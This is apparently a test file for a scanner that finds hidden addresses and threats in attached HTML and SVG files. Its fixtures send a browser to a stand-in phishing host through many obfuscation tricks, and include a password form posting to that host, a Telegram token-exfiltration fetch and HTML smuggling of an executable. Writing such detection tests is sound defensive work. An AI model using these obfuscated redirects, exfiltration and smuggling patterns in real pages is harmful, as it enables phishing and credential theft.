import assert from 'node:assert/strict';
import { test } from 'node:test';
import { idsOf, openFile, urlsOf } from '../../../../test/builders/attached-files.ts';

const TARGET = 'https://evil.example/login';
const codes = [...TARGET].map((char) => char.charCodeAt(0));
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const percent = (text: string): string => [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');
const backwards = [...TARGET].reverse().join('');

/** [what hides the target, script] */
const SCRIPTS: [string, string][] = [
  ['nothing', `location.href = '${TARGET}'`],
  ['base64', `document.write(atob("${base64(`<a href="${TARGET}">open</a>`)}"))`],
  ['base64 of the address alone', `location = window.atob('${base64(TARGET)}')`],
  ['names in brackets', `window["location"]["href"] = self["at" + "ob"]("${base64(TARGET)}")`],
  ['percent signs', `document.write(unescape('${percent(`<form action="${TARGET}">`)}'))`],
  ['character codes', `var u = String.fromCharCode(${codes.join(',')}); location = u`],
  ['character codes in a list', `location = String.fromCharCode.apply(null, [${codes.join(', ')}])`],
  ['pieces', `var h = 'ht' + 'tps', d = 'evil' + '.example'; location = h + '://' + d + '/login'`],
  ['pieces appended', `var h = ''; h += 'htt'; h += 'ps://evil.'; h += 'example/login'; go(h)`],
  ['pieces in a list', `var a = ['ht', 'tps:', '//evil', '.example/login']; go(a.join(''))`],
  ['pieces picked from a list', `var a = ['ht', '/login', 'evil.example', 'tps://']; location = a[0] + a[3] + a[2] + a[1]`],
  ['writing backwards', `location = '${backwards}'.split('').reverse().join('')`],
  ['writing backwards, turned by a function we cannot follow', `location = turn('${backwards}')`],
  ['escapes', `x("${codes.map((code) => `\\x${code.toString(16)}`).join('')}")`],
  ['padding', `location = 'hQtQtQps:Q//evil.eQxample/login'.replace(/Q/g, '')`],
  ['changed characters', `location = [${codes.map((code) => code ^ 23).join(',')}].map(function (c) { return String.fromCharCode(c ^ 23) }).join('')`],
  ['shifted numbers', `location = '${codes.map((code) => code + 3).join('|')}'.split('|').map(c => String.fromCharCode(c - 3)).join('')`],
  ['a template', `const d = 'evil.example'; const u = \`https://\${d}/login\`; window.open(u)`],
  ['a packed script', `eval(function(p,a,c,k,e,d){return p}('0.1="2://3.4/5"',6,6,'window|location|https|evil|example|login'.split('|'),0,{}))`],
  ['two layers', `eval(atob('${base64(`document.write(unescape("${percent(`<iframe src="${TARGET}">`)}"))`)}'))`],
  ['a page in a data URL', `location = 'data:text/html;base64,${base64(`<a href="${TARGET}">x</a>`)}'`],
];

for (const [what, script] of SCRIPTS) {
  test(`a target hidden in the script of an attached page by ${what} is found`, () => {
    const files = openFile('offer.html', `<html><body><script>${script}</script></body></html>`);
    assert.ok(urlsOf(files).includes(TARGET), urlsOf(files).join(' '));
  });
}

test('handlers, javascript: addresses and scripts of a picture are read as scripts', () => {
  for (const page of [
    `<body onload="window.location='${TARGET}'">`,
    `<a href="javascript:location.replace('${TARGET}')">open</a>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="location.href=atob('${base64(TARGET)}')"></svg>`,
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[location='${TARGET}']]></script></svg>`,
    `<iframe srcdoc="&lt;a href='${TARGET}'&gt;x&lt;/a&gt;"></iframe>`,
    `<div data-next="${base64(TARGET)}"></div>`,
    `<p id="${base64(TARGET)}"></p>`,
    `<p hidden>${base64(`<a href="${TARGET}">x</a>`)}</p>`,
    `<textarea>${Buffer.from(TARGET).toString('hex')}</textarea>`,
    `<script type="text/plain">${base64(`<a href="${TARGET}">x</a>`)}</script>`,
    `<!--${base64(`<a href="${TARGET}">x</a>`)}-->`,
    `<a href="java&#9;script:location.replace('https://evil.'+'example/login')">open</a>`,
  ]) {
    assert.ok(urlsOf(openFile('picture.svg', page)).includes(TARGET), page);
  }
});

test('what was put together is told from what stands there', () => {
  const page = `<script>location = 'https://plain.example/'; open(atob('${base64(TARGET)}'))</script><a href="https://link.example/">x</a>`;
  const ways = Object.fromEntries(openFile('a.html', page).links.map(({ found }) => [found.url, found.ways]));
  assert.deepEqual(ways['https://plain.example/'], ['script']);
  assert.deepEqual(ways[TARGET], ['built-by-script']);
  assert.deepEqual(ways['https://link.example/'], []);
});

test('the known part of an address is kept where the rest depends on the reader', () => {
  const files = openFile('a.html', `<script>var u = 'https://evil' + '.example/?' + victim; fetch(u)</script>`);
  assert.deepEqual(urlsOf(files), ['https://evil.example/']);
});

test('forms, password fields and what scripts do are reported', () => {
  const cases: [string, string[]][] = [
    ['<form action="https://evil.example/p.php"><input type="password"></form>', ['form', 'password-field']],
    ['<script>eval(code)</script>', ['eval', 'script']],
    ['<script>document.write(page)</script>', ['script', 'script-builds-page']],
    ["<script>fetch('https://api.telegram.org/bot' + token)</script>", ['script', 'telegram-exfiltration']],
    ['<body onload="document.forms[0].submit()">', ['autosubmit', 'script']],
    ['<script>x = CryptoJS.AES.decrypt(a, b)</script>', ['obfuscated-script', 'script']],
    ['<script>navigator.clipboard.writeText(run)</script>', ['clipboard-write', 'script']],
    ['<p>An honest page</p>', []],
  ];
  for (const [page, ids] of cases) assert.deepEqual(idsOf(openFile('a.html', `<html>${page}`)).sort(), ids, page);
});

test('a file that a page carries and has saved is opened in turn', () => {
  const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0', 'latin1'), Buffer.alloc(200)]).toString('base64');
  const files = openFile('scan.html', `<script>var b = new Blob([atob("${program}")]); a.href = URL.createObjectURL(b); a.download = 'scan.exe'</script>`);
  assert.deepEqual(idsOf(files).sort(), ['embedded-file', 'executable', 'html-smuggling', 'script']);
  assert.equal(files.findings.filter(({ id }) => id === 'html-smuggling').length, 1, 'one thing is told once');
  assert.deepEqual(
    files.attachments.map(({ name, kind }) => [name, kind]),
    [
      ['scan.html', 'html'],
      ['scan.html/payload.program', 'program'],
    ],
  );
});

test('links of a page keep their places also behind a long script', () => {
  const page = `<html><script>var x = "${'ab'.repeat(5000)}"</script><a href="${TARGET}">x</a><img src="data:image/png;base64,${'A'.repeat(9000)}"><a href="https://second.example/">y</a>`;
  const files = openFile('a.html', page);
  files.open({ name: 'b.html', type: 'text/html', octets: Buffer.from(page), text: page, leaf: 4 });
  const placed = files.links.filter(({ leaf }) => leaf === 4).map(({ found }) => page.slice(found.span?.start, found.span?.end));
  assert.deepEqual(placed, [TARGET, 'https://second.example/']);
});

test('what only looks like the begin of a script hides nothing', () => {
  const rest = `${'<p>An honest page</p>'.repeat(400)}<constructor><a href=&#104;ttps://evil.example/login>x</a>`;
  for (const begin of ['<!-- <script> -->', '<p title="<script>">', '<textarea><script></textarea>', '<p title="<script src=x>">']) {
    assert.deepEqual(urlsOf(openFile('a.html', `<html>${begin}${rest}`)), [TARGET], begin);
  }
});

test('decoding again and again ends', () => {
  let script = 'document.write(1)';
  for (let turn = 0; turn < 20; turn += 1) script = `document.write(atob("${base64(script)}"))`;
  assert.equal(openFile('a.html', `<script>${script}</script>`).complete, false);
});
